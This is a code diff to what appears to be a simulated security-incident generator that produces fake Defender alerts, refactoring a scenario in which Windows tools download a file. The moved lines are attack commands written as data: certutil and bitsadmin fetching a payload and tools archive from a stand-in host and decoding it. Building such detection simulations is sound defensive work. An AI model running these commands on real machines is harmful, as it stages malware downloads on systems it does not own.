@@ -1,10 +1,22 @@
 import { raise } from '../alerts';
+import { alarms } from './alarms.data';
 import { connect, touchFile } from '../events';
-import { hashOf } from '../files';
+import { hashOf, type FileRef } from '../files';
 import { minute, second } from '../window';
 import type { Story } from './stage';
 
 const source = { name: 'files.update-mirror.example', ip: '198.51.100.88' };
+
+const commandsFor = (text: FileRef, fetched: FileRef) =>
+  [
+    ['certutil', `certutil.exe -urlcache -split -f http://${source.name}/pkg.txt ${text.path}`, text],
+    ['certutil', `certutil.exe -decode ${text.path} ${fetched.path}`, fetched],
+    [
+      'bitsadmin',
+      `bitsadmin.exe /transfer job1 /download /priority high http://${source.name}/tools.zip C:\\Users\\Public\\tools.zip`,
+      undefined,
+    ],
+  ] as const;
 
 /** Two programs that Windows brings fetch a file that neither was made for. */
 export const download: Story = (stage) => {
@@ -25,15 +37,7 @@ export const download: Story = (stage) => {
     size: 384_000,
     threat: 'TrojanDownloader:Win32/Sample',
   });
-  const commands = [
-    ['certutil', `certutil.exe -urlcache -split -f http://${source.name}/pkg.txt ${text.path}`, text],
-    ['certutil', `certutil.exe -decode ${text.path} ${fetched.path}`, fetched],
-    [
-      'bitsadmin',
-      `bitsadmin.exe /transfer job1 /download /priority high http://${source.name}/tools.zip C:\\Users\\Public\\tools.zip`,
-      undefined,
-    ],
-  ] as const;
+  const commands = commandsFor(text, fetched);
   commands.forEach(([key, command, file], index) => {
     const when = at + (10 + index * 25) * second;
     const process = actor.run(key, { at: when, parent: shell, command });
@@ -52,12 +56,8 @@ export const download: Story = (stage) => {
   });
   const ran = actor.journal.start({ file: fetched, at: at + 2 * minute, parent: shell, command: fetched.path });
   raise(world, {
+    ...alarms.download,
     at: at + 4 * minute,
-    title: 'Use of living-off-the-land binary to fetch code',
-    category: 'CommandAndControl',
-    severity: 'Medium',
-    service: 'Microsoft Defender for Endpoint',
-    techniques: ['Ingress Tool Transfer (T1105)', 'BITS Jobs (T1197)', 'Mshta (T1218.005)'],
     evidence: [{ device: actor.device }, { device: actor.device, process: ran }, { account: person }, { ip: source.ip, url: source.name }],
   });
   return {
